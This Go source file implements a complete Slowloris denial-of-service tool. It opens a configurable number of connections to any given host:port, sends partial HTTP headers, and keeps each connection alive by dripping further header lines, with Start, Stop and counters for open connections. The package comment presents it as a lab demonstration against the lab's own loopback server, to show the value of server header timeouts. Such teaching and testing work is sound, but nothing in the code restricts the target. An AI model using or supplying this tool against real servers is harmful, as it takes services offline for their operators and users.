// Package slowloris holds many HTTP connections open by sending request
// headers a few bytes at a time and never finishing them: the classic attack
// on servers without a header timeout. A lab points it at its own server on
// loopback to show what a missing http.Server timeout costs.
//
// One goroutine drives every connection, so the attacker's own goroutine
// count stays flat and the growth a learner sees belongs to the server.
package slowloris

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strconv"
	"sync"
	"time"
)

// Config says how hard to hold on.
type Config struct {
	Addr  string        // host:port of the server
	Conns int           // connections to open
	Drip  time.Duration // how often each connection sends one more header line (default 200ms)
}

// Attack is a running slowloris.
type Attack struct {
	mu     sync.Mutex
	conns  []net.Conn // nil once the server closed it
	opened int

	cancel context.CancelFunc
	done   chan struct{}
}

// Start opens the connections, sends the first header line on each, and
// keeps dripping until ctx ends or Stop is called.
func Start(ctx context.Context, cfg Config) (*Attack, error) {
	if cfg.Conns < 1 {
		return nil, fmt.Errorf("slowloris: Conns must be at least 1, got %d", cfg.Conns)
	}
	if cfg.Drip <= 0 {
		cfg.Drip = 200 * time.Millisecond
	}
	ctx, cancel := context.WithCancel(ctx)
	a := &Attack{cancel: cancel, done: make(chan struct{})}
	d := net.Dialer{Timeout: 2 * time.Second}
	for i := range cfg.Conns {
		c, err := d.DialContext(ctx, "tcp", cfg.Addr)
		if err != nil {
			a.closeAll()
			cancel()
			return nil, fmt.Errorf("slowloris: dial %s (connection %d of %d): %w", cfg.Addr, i+1, cfg.Conns, err)
		}
		// A request line and one header, then nothing that ends the headers.
		if _, err := c.Write([]byte("GET /healthz HTTP/1.1\r\nHost: " + cfg.Addr + "\r\n")); err != nil {
			_ = c.Close()
			continue
		}
		a.conns = append(a.conns, c)
	}
	a.opened = len(a.conns)
	go a.drip(ctx, cfg.Drip)
	return a, nil
}

func (a *Attack) drip(ctx context.Context, every time.Duration) {
	defer close(a.done)
	t := time.NewTicker(every)
	defer t.Stop()
	for n := 0; ; n++ {
		select {
		case <-ctx.Done():
			a.closeAll()
			return
		case <-t.C:
		}
		line := []byte("X-Drip-" + strconv.Itoa(n) + ": 1\r\n")
		a.mu.Lock()
		for i, c := range a.conns {
			if c == nil {
				continue
			}
			_ = c.SetWriteDeadline(time.Now().Add(every))
			if _, err := c.Write(line); err != nil && !errors.Is(err, context.Canceled) {
				// The server gave up on us: what a header timeout does.
				_ = c.Close()
				a.conns[i] = nil
			}
		}
		a.mu.Unlock()
	}
}

// Opened is how many connections were established.
func (a *Attack) Opened() int { return a.opened }

// Open is how many connections the server has not closed yet, as far as the
// attacker can tell from its last drip.
func (a *Attack) Open() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	n := 0
	for _, c := range a.conns {
		if c != nil {
			n++
		}
	}
	return n
}

// Stop closes every connection and waits for the drip goroutine.
func (a *Attack) Stop() {
	a.cancel()
	<-a.done
}

func (a *Attack) closeAll() {
	a.mu.Lock()
	defer a.mu.Unlock()
	for i, c := range a.conns {
		if c != nil {
			_ = c.Close()
			a.conns[i] = nil
		}
	}
}
